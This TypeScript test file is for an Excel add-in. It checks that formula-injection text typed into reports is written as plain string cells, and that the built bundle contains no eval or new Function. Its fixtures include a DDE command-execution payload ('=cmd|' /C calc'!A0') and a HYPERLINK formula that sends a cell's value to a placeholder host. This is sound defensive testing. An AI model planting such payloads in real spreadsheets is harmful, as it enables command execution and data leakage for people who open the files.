import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { strFromU8 } from 'fflate';
import { readXlsx } from '../xlsx/read-xlsx';
import { writeXlsx } from '../../src/xlsx/write-xlsx';
import { aSheetSpec, readZip } from './file-tools';
import { consolidate } from '../../src/core/consolidate/consolidate';
import { consolidationSheets } from '../../src/core/summary/consolidation-sheets';
import { readFileIntake } from '../read-file-intake';
import { reportSources } from '../../src/core/intake/intake';
import { fixtureContext, validFill, validReportBytes, validReportSpec, YEAR } from './valid-report';

/**
 * What we write must never become a formula a spreadsheet runs (formula injection): text a unit
 * typed that starts with '=', '+', '-' or '@' lands as text. And the built add-in carries no
 * eval or new Function.
 */

const INJECTIONS = [
  '=1+2',
  '+SUM(A1:A9)',
  '-2+3',
  '@SUM(A1)',
  '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
];

/** The <c> element of `address` in a written sheet's XML. */
function cellXml(bytes: Uint8Array, address: string, part = 'xl/worksheets/sheet1.xml'): string {
  const xml = strFromU8(readZip(bytes).get(part) ?? new Uint8Array());
  const m = new RegExp(`<c r="${address}"[^>]*?(?:/>|>[\\s\\S]*?</c>)`).exec(xml);
  if (!m) throw new Error(`no cell ${address}`);
  return m[0];
}

describe('formula injection', () => {
  it.each(INJECTIONS.map((s) => [s]))('text %j is written as a string cell, never a formula', async (s) => {
    const bytes = await writeXlsx([aSheetSpec('A', [{ address: 'B3', value: { text: s } }])]);
    const cell = cellXml(bytes, 'B3');
    expect(cell).toMatch(/ t="(s|inlineStr)"/);
    expect(cell).not.toContain('<f>');
    const read = await readXlsx(bytes, 'a.xlsx');
    expect(read.ok && read.value.sheets[0]?.rows[2]?.[1]).toEqual({ v: s });
  });

  it('a unit name and a note typed as formulas stay text through the report template', async () => {
    const fill = validFill();
    const spec = validReportSpec({
      ...fill,
      unitName: '=HYPERLINK("http://example.invalid","Đơn vị")',
      values: { ...fill.values, ii6_review: { ...fill.values.ii6_review, note: '@SUM(1+1)*cmd' } },
    });
    const typed = ['=HYPERLINK("http://example.invalid","Đơn vị")', '@SUM(1+1)*cmd'];
    const texts = spec.cells.filter((c) => c.value && 'text' in c.value && typed.includes(c.value.text));
    expect(texts.map((c) => c.value)).toEqual([
      { text: '=HYPERLINK("http://example.invalid","Đơn vị")' },
      { text: '@SUM(1+1)*cmd' },
    ]);
    const bytes = await writeXlsx([spec]);
    for (const c of texts) {
      const cell = cellXml(bytes, c.address);
      expect(cell).toMatch(/ t="(s|inlineStr)"/);
      expect(cell).not.toContain('<f>');
    }
  });
});

describe('formula injection through the consolidation outputs', () => {
  it('unit names, notes, preparers and file names typed as formulas stay { text } in every summary sheet', async () => {
    const { plan, settings } = fixtureContext();
    const fill = validFill();
    const typed = {
      unitName: '=HYPERLINK("http://example.invalid","Đơn vị")',
      preparer: '+cmd|calc',
      note: '@SUM(1+1)',
      file: '=1+2.xlsx',
    };
    const spec = validReportSpec({
      ...fill,
      unitName: typed.unitName,
      preparer: typed.preparer,
      values: { ...fill.values, ii6_commended_individuals: { value: 12, note: typed.note } },
    });
    const read = await readFileIntake(await validReportBytes([spec]), typed.file, { plan, settings });
    const sources = reportSources(read).map((s) => ({
      file: read.file,
      ...(s.sheet ? { sheet: s.sheet } : {}),
      read: s.read,
    }));
    expect(sources.map((s) => s.read.ok)).toEqual([true]);
    const c = consolidate({ plan, settings, year: YEAR, sources, importedAt: '2025-12-31T08:00:00' });
    const sheets = consolidationSheets(c, plan, settings, 'vi');
    const dangerous = sheets.flatMap((sheet) =>
      sheet.cells
        .filter((cell) => {
          const v = cell.value;
          const text = v && 'text' in v ? v.text : v && 'formula' in v ? v.formula : '';
          return Object.values(typed).some((t) => text.includes(t.replace(/^[=+@]/, '')));
        })
        .map((cell) => ({ sheet: sheet.name, address: cell.address, value: cell.value })),
    );
    expect(dangerous.length).toBeGreaterThan(0);
    for (const d of dangerous) expect(d.value && 'text' in d.value).toBe(true);
    const bytes = await writeXlsx(sheets);
    const files = readZip(bytes);
    const sheetParts = [...files.keys()].filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n)).sort();
    for (const d of dangerous) {
      const part = sheetParts[sheets.findIndex((s) => s.name === d.sheet)];
      const cell = cellXml(bytes, d.address, part);
      expect(cell).toMatch(/ t="(s|inlineStr)"/);
      expect(cell).not.toContain('<f>');
    }
  });
});

// The bundle is built by `npm run build`; without it there is nothing to check here. Only our own
// bundle (taskpane.*.js) is checked: dist/office-js is Microsoft's Office.js, copied as shipped.
const DIST = resolve(__dirname, '../../dist');
const bundles = existsSync(DIST) ? readdirSync(DIST).filter((n) => /^taskpane.*\.js$/.test(n)) : [];
const withDist = bundles.length > 0 ? describe : describe.skip;

/**
 * webpack's runtime adds `new Function("return this")` as a fallback for `globalThis` when a
 * module mentions `global`; it never runs where globalThis exists (every host of the add-in) and
 * sits in a try/catch, so a strict CSP only makes it fall through. It goes away with
 * `node: { global: false }` in webpack.config.js; until then it is the one allowed occurrence.
 */
const WEBPACK_GLOBAL_SHIM = 'new Function("return this")';

withDist('the built add-in (dist/)', () => {
  it.each(bundles.map((n) => [n]))('%s has no eval( or new Function(', (name) => {
    const code = readFileSync(join(DIST, name), 'utf8').split(WEBPACK_GLOBAL_SHIM).join('');
    expect(code.match(/\beval\(/g) ?? []).toEqual([]);
    expect(code.match(/\bnew Function\(/g) ?? []).toEqual([]);
  });
});
